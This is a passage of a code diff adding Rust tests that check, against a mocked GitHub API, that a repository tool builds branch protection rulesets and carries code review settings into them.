+        assert!(server.received_requests().await.unwrap().is_empty());
+    }
+
+    #[tokio::test]
+    async fn test_generate_branch_protection_ruleset() {
+        use wiremock::matchers::{body_json, method, path};
+        let server = wiremock::MockServer::start().await;
+        wiremock::Mock::given(method("GET"))
+            .and(path("/repos/testuser/test/rulesets"))
+            .respond_with(
+                wiremock::ResponseTemplate::new(200).set_body_json(serde_json::json!([
+                    { "id": 7, "name": "Someone else's ruleset" },
+                    { "id": 42, "name": "Skootrs branch protection" },
+                ])),
+            )
+            .mount(&server)
+            .await;
+        wiremock::Mock::given(method("PUT"))
+            .and(path("/repos/testuser/test/rulesets/42"))
+            .and(body_json(serde_json::json!({
+                "name": "Skootrs branch protection",
+                "target": "branch",
+                "enforcement": "active",
+                "bypass_actors": [
+                    { "actor_id": 5, "actor_type": "RepositoryRole", "bypass_mode": "always" },
+                ],
+                "conditions": {
+                    "ref_name": { "include": ["refs/heads/release/*"], "exclude": [] },
+                },
+                "rules": [
+                    { "type": "deletion" },
+                    { "type": "non_fast_forward" },
+                    {
+                        "type": "required_status_checks",
+                        "parameters": {
+                            "strict_required_status_checks_policy": true,
+                            "required_status_checks": [
+                                { "context": "Lint" },
+                                { "context": "test (macos-latest, 1.21)" },
+                                { "context": "test (ubuntu-latest, 1.21)" },
+                            ],
+                        },
+                    },
+                    {
+                        "type": "pull_request",
+                        "parameters": {
+                            "required_approving_review_count": 2,
+                            "dismiss_stale_reviews_on_push": true,
+                            "require_code_owner_review": false,
+                            "require_last_push_approval": false,
+                            "required_review_thread_resolution": false,
+                        },
+                    },
+                ],
+            })))
+            .respond_with(
+                wiremock::ResponseTemplate::new(200).set_body_json(serde_json::json!({ "id": 42 })),
+            )
+            .expect(1)
+            .mount(&server)
+            .await;
+        let (_dir, source) = workflow_source();
+        let protection = BranchProtectionParams {
+            branch: Some("release/*".to_string()),
+            mode: BranchProtectionMode::Ruleset,
+            require_linear_history: false,
+            enforce_admins: false,
+            required_reviews: Some(CodeReviewConfig {
+                required_approving_review_count: 2,
+                dismiss_stale_reviews: true,
+                code_owners: vec![],
+            }),
+            ..BranchProtectionParams::default()
+        };
+
+        let facet = GithubAPIBundleHandler {
+            client: mock_client(&server).await,
+        }
+        .generate_branch_protection(&test_repo(), &source, &protection)
+        .await
+        .unwrap();
+
+        assert_eq!(facet.apis.len(), 1);
+        assert!(facet.apis[0].url.ends_with("/rulesets/42"));
+    }
+
+    #[test]
+    fn test_branch_protection_config_carries_code_review() {
+        let code_review = CodeReviewConfig {
+            required_approving_review_count: 1,
+            dismiss_stale_reviews: false,
+            code_owners: vec![],
+        };
+        let protection = BranchProtectionParams {
+            mode: BranchProtectionMode::Ruleset,
+            ..BranchProtectionParams::default()
+        };
+        let common = maven_params(SupportedFacetType::CodeOwners).common;
+
+        let api_params = FacetSetParamsGenerator {}
+            .generate_api_bundle_facet_params(
+                &common,
+                &[
+                    FacetConfig::CodeReview(code_review.clone()),
+                    FacetConfig::BranchProtection(protection.clone()),
+                ],
+            )
+            .unwrap();
+
+        let facet_types = api_params
+            .facets_params
+            .iter()
+            .map(|params| match params {
+                FacetCreateParams::APIBundle(params) => params.facet_type.clone(),
+                FacetCreateParams::SourceBundle(_) => panic!("Only API bundles are expected"),
+            })
+            .collect::<Vec<_>>();
+        assert_eq!(
+            facet_types,
+            vec![
+                SupportedFacetType::BranchProtection,
+                SupportedFacetType::VulnerabilityReporting,
+            ]
+        );
+        let FacetCreateParams::APIBundle(branch_protection_params) = &api_params.facets_params[0]
+        else {
+            unreachable!();
+        };
+        assert_eq!(
+            branch_protection_params.config,
+            Some(FacetConfig::BranchProtection(BranchProtectionParams {
+                required_reviews: Some(code_review),
+                ..protection
+            }))
+        );
+    }
+}